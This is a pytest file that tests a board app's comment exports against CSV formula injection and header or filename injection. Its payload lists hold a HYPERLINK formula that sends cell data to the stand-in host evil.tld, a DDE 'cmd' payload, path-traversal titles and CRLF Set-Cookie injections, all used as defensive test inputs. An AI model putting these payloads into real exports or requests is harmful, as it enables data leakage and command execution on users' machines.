"""S24, S25: exports against CSV injection and header injection."""

import csv
import io
import unicodedata

import pytest

from tests.server import world
from tests.server.world import BOARD, OPS, create, plain, rename, thread

FORMULAS = [
    '=HYPERLINK("https://evil.tld?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '"=1+1',
    'x";=1+1',
    'x",=1+1',
    "x\n=1+1",
    "x;=1+1;y",
]


async def exported(client, ending):
    answer = await client.get(f"/api/v1/boards/{BOARD}/comments.{ending}")
    assert answer.status_code == 200
    return answer


def cells(text, delimiter):
    """All cells as a spreadsheet with that delimiter reads them."""
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def runs(cell):
    """Whether a spreadsheet would take the cell for a formula; it passes over what nobody sees."""
    seen = [char for char in unicodedata.normalize("NFKC", cell) if unicodedata.category(char)[0] not in "CZ"]
    return "".join(seen).lstrip('"')[:1] in tuple("=+-@")


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"], ids=["comma", "semicolon", "tab"])
async def test_no_cell_is_a_formula(script, formula, delimiter):
    """S24: Texts, names and titles, with the delimiters of all languages."""
    ops = [
        rename(formula),
        create("frame", "frame", title=formula, w=500, h=500),
        thread("thread", text=formula, x=9, y=9),
    ]
    title = world.op("board.update", set={"title": formula})
    assert (await script().post(OPS, json={"ops": plain(*ops, title)})).status_code == 200
    text = (await exported(script(), "csv")).content.decode("utf-8-sig")
    assert runs(" \u200b＝1") and not runs("'=1")
    assert [cell for cell in cells(text, delimiter) if runs(cell)] == []


@pytest.mark.parametrize("formula", FORMULAS)
async def test_json_contains_texts_unchanged(script, formula):
    """S24: Programs do not run it."""
    await script().post(OPS, json={"ops": plain(rename("Aino"), thread("thread", text=formula))})
    assert [comment["text"] for comment in (await exported(script(), "json")).json()["comments"]] == [formula]


TITLES = [
    '../../x"; filename=evil.exe',
    "..\\..\\x",
    "/etc/cron.d/x",
    'a"\nSet-Cookie: a=b',
    "a; filename*=UTF-8''evil.exe",
    "\u202egpj.exe",
    "CON",
    "....",
    "%0d%0aSet-Cookie: a=b",
    "ä" * 300,
    "💣" * 300,
]


@pytest.mark.parametrize("title", TITLES)
@pytest.mark.parametrize("ending", ["csv", "json"])
async def test_a_hostile_title_gives_only_a_file_name(script, title, ending):
    """S25: One header, one name, no path and no other extension."""
    await script().post(OPS, json={"ops": plain(world.op("board.update", set={"title": title}))})
    answer = await exported(script(), ending)
    (disposition,) = answer.headers.get_list("content-disposition")
    kind, name, name_in_utf8 = disposition.split("; ")
    assert (kind, name.startswith('filename="'), name_in_utf8.startswith("filename*=UTF-8''")) == (
        "attachment",
        True,
        True,
    )
    assert name.endswith(f'.{ending}"') and name_in_utf8.endswith(f".{ending}")
    assert not set(name[10:-1]) & set('"\\/;%\r\n') and name.count(".") == 1
    assert ("set-cookie" in answer.headers, len(disposition) < 1_500) == (False, True)


async def test_a_title_with_line_breaks_is_refused(script):
    """[P8] S25: By the schema."""
    op = plain(world.op("board.update", set={"title": "x"}))[0] | {"set": {"title": "x\r\nSet-Cookie: a=b"}}
    assert (await script().post(OPS, json={"ops": [op]})).json()["code"] == "invalid"


@pytest.mark.parametrize("role", ["view", "comment", "edit"])
@pytest.mark.parametrize("ending", ["csv", "json"])
async def test_only_owners_can_export(script, role, ending):
    """[A7] S3: The file has the names and comments of everybody."""
    answer = await script(role).get(f"/api/v1/boards/{BOARD}/comments.{ending}")
    assert (answer.status_code, answer.json()["code"]) == (403, "forbidden")
